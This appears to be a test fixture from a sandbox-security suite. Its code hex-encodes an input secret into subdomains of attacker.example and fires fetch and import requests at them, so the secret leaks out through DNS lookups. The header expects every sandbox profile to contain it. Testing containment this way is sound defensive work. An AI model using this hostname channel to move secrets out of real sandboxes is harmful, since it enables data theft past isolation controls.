/*---
id: ex-dns-os-04-hostname-channel
description: "Encodes the input into hostnames and fires fetch and import requests at them, since even a refused request may trigger a DNS lookup that carries the data out."
kind: malicious
category: exfiltration
technique: EX-dns-os
variant: combined
references:
  - "GHSA-m5w8-4gq2-6f8x"
unproven: "Not proven against a vulnerable target: the sample tests the advisory's technique, not its published trigger. On vm2 3.9.19, the one vulnerable sandbox the suite installs, it gives no oracle evidence."
expect:
  ultra-secure: { outcome: contained, value: "held" }
  high-security: { outcome: contained, value: "held" }
  tenant-isolated: { outcome: contained, value: "held" }
input: { secret: "tok-42" }
flags: [async]
---*/
const label = Array.from(input.secret, (c) => c.charCodeAt(0).toString(16)).join('');
const urls = ['https://' + label + '.attacker.example/', 'http://' + label + '.attacker.example:53/'];
for (const u of urls) {
  if (typeof fetch === 'function') {
    const r = await fetch(u).then(() => 'ESCAPED: fetched ' + u, () => null);
    if (r) return r;
  }
  const m = await import(u).then(() => 'ESCAPED: imported ' + u, () => null);
  if (m) return m;
}
return 'held';
